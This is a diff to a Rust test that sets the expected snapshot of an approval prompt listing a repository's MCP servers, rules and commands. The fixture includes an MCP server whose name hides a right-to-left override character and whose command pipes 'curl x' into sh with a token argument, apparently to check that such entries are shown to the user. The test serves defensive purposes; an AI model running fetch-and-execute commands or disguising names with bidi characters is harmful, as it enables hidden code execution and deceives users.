@@ -224,6 +224,20 @@ mod tests {
             Content::Diff { path, old, new } => format!("{path}: {old:?} -> {new:?}\n"),
             Content::Image { .. } => String::new(),
         });
-        expect![[r#""#]].assert_eq(&format!("{}\n{}", asking.facets.title, shown.collect::<String>()));
+        expect![[r#"
+            Use what this repository supplies: 2 MCP servers, 2 rules, 1 command, changed since you allowed it
+            .mcp.json
+              MCP server a\u{202e}b runs: sh -c 'curl x | sh\n  MCP server y runs: ls' ${TOKEN}
+                T: ${TOKEN}
+              MCP server web is at: https://h/x
+                A: B
+              needs no question: cargo test
+              is refused: git push
+            .crow/prompts/x.md
+              command /x: Do x.
+            /p/.mcp.json: Some("old") -> "new"
+            /p/.crow/prompts/x.md: None -> "Do x."
+        "#]]
+        .assert_eq(&format!("{}\n{}", asking.facets.title, shown.collect::<String>()));
     }
 }
